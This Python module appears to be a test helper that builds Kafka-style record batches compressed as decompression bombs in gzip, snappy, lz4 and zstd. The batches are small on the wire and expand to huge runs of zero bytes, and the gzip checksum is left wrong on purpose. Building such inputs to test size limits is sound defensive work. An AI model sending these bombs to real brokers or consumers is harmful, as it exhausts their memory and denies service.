"""
Batches that are small on the wire and large when decompressed, made by hand: no compressor is asked
for a gibibyte, so making them costs nothing either.

Each is `count` records whose values are `size` zero bytes: everything about them is right but what
they add up to.
"""

import struct
import zlib

from frames import crc32c, varint, zigzag

GZIP, SNAPPY, LZ4, ZSTD = 1, 2, 3, 4
CODECS = {"gzip": GZIP, "snappy": SNAPPY, "lz4": LZ4, "zstd": ZSTD}

MIB = 1024 * 1024


def batch(codec, records, count=1):
    """A batch of magic 2 around what is (or claims to be) compressed."""
    checked = struct.pack(">hiqqqhii", codec, count - 1, 1, 1, -1, -1, -1, count) + records
    return struct.pack(">qiibI", 0, len(checked) + 9, 0, 2, crc32c(checked)) + checked


def record(size, delta=0):
    """What stands before and after the zeros."""
    body_head = b"\0\0" + varint(zigzag(delta)) + varint(1) + varint(zigzag(size))  # no key
    body_len = len(body_head) + size + 1
    return varint(zigzag(body_len)) + body_head, b"\0"


def gzip_bomb(size, count):
    head, tail = record(size)
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)

    def flushed(data):
        return packer.compress(data) + packer.flush(zlib.Z_FULL_FLUSH)

    # After a full flush the same bytes always compress to the same: what repeats is made once.
    flushed(b"x")
    zeros = flushed(bytes(min(size, MIB)))
    one = flushed(head) + zeros * max(size // MIB, 1)
    one += flushed(bytes(size % MIB if size > MIB else 0) + tail)
    # The checksum at the end is wrong; who has got there has decompressed it all.
    end = packer.flush() + struct.pack("<II", 0, size * count & 0xFFFFFFFF)
    return b"\x1f\x8b\x08\0\0\0\0\0\0\xff" + one * count + end


def lz4_sequence(literals, match_len):
    """Literals, then a match of the byte before (offset 1)."""
    more = match_len - 4
    token = min(len(literals), 15) << 4 | min(more, 15)
    out = bytes([token])
    if len(literals) >= 15:
        out += lz4_length(len(literals) - 15)
    out += literals + struct.pack("<H", 1)
    if more >= 15:
        out += lz4_length(more - 15)
    return out


def lz4_length(rest):
    return b"\xff" * (rest // 255) + bytes([rest % 255])


def lz4_last(literals):
    assert len(literals) < 15
    return bytes([len(literals) << 4]) + literals


def xxh32_byte(data):
    """The second byte of xxHash32 with seed 0 of less than 16 bytes."""
    p1, p2, p3, p4, p5 = 2654435761, 2246822519, 3266489917, 668265263, 374761393
    mask = 0xFFFFFFFF

    def rotate(x, n):
        return ((x << n) | (x >> (32 - n))) & mask

    value = (p5 + len(data)) & mask
    at = 0
    while at + 4 <= len(data):
        value = (value + struct.unpack("<I", data[at : at + 4])[0] * p3) & mask
        value = rotate(value, 17) * p4 & mask
        at += 4
    for byte in data[at:]:
        value = rotate((value + byte * p5) & mask, 11) * p1 & mask
    value ^= value >> 15
    value = value * p2 & mask
    value ^= value >> 13
    value = value * p3 & mask
    value ^= value >> 16
    return value >> 8 & 0xFF


def lz4_bomb(size, count):
    head, tail = record(size)
    descriptor = b"\x60\x70"  # version 1, independent blocks of at most 4 MiB, no checksums
    out = b"\x04\x22\x4d\x18" + descriptor + bytes([xxh32_byte(descriptor)])

    def zeros(literals, count, last):
        data = lz4_sequence(literals + b"\0", count - 1 - len(last)) + lz4_last(last)
        return struct.pack("<I", len(data)) + data

    first = min(size, 4 * MIB - len(head))
    one = zeros(head, first, bytes(5)) + zeros(b"", 4 * MIB, bytes(5)) * ((size - first) // (4 * MIB))
    if (size - first) % (4 * MIB) > 16:
        one += zeros(b"", (size - first) % (4 * MIB), bytes(5))
    one += struct.pack("<I", len(tail) | 1 << 31) + tail
    return out + one * count + struct.pack("<I", 0)


def zstd_bomb(size, count):
    head, tail = record(size)

    def block(kind, length, data, last=0):
        return struct.pack("<I", length << 3 | kind << 1 | last)[:3] + data

    # The size of the content is not told; a window of 128 KiB, blocks of as much.
    out = b"\x28\xb5\x2f\xfd\0" + bytes([7 << 3])
    one = block(0, len(head), head) + block(1, 128 * 1024, b"\0") * (size // (128 * 1024))
    if size % (128 * 1024):
        one += block(1, size % (128 * 1024), b"\0")
    one += block(0, len(tail), tail)
    return out + one * count + block(0, 0, b"", 1)


def snappy_bomb(size, count):
    """A raw block a record: its length in front, then copies of 64 bytes in three."""
    zeros = b"\xfe\1\0" * ((size - 1) // 64)
    rest = (size - 1) % 64
    if rest:
        zeros += bytes([(rest - 1) << 2 | 2, 1, 0])

    def literal(data):
        return bytes([(len(data) - 1) << 2]) + data

    out = b"\x82SNAPPY\0" + struct.pack(">ii", 1, 1)
    for delta in range(count):
        head, tail = record(size, delta)
        block = varint(len(head) + size + len(tail)) + literal(head + b"\0") + zeros + literal(tail)
        out += struct.pack(">i", len(block)) + block
    return out


BOMBS = {"gzip": gzip_bomb, "snappy": snappy_bomb, "lz4": lz4_bomb, "zstd": zstd_bomb}


def bomb(codec, size, count=1):
    return batch(CODECS[codec], BOMBS[codec](size, count), count)
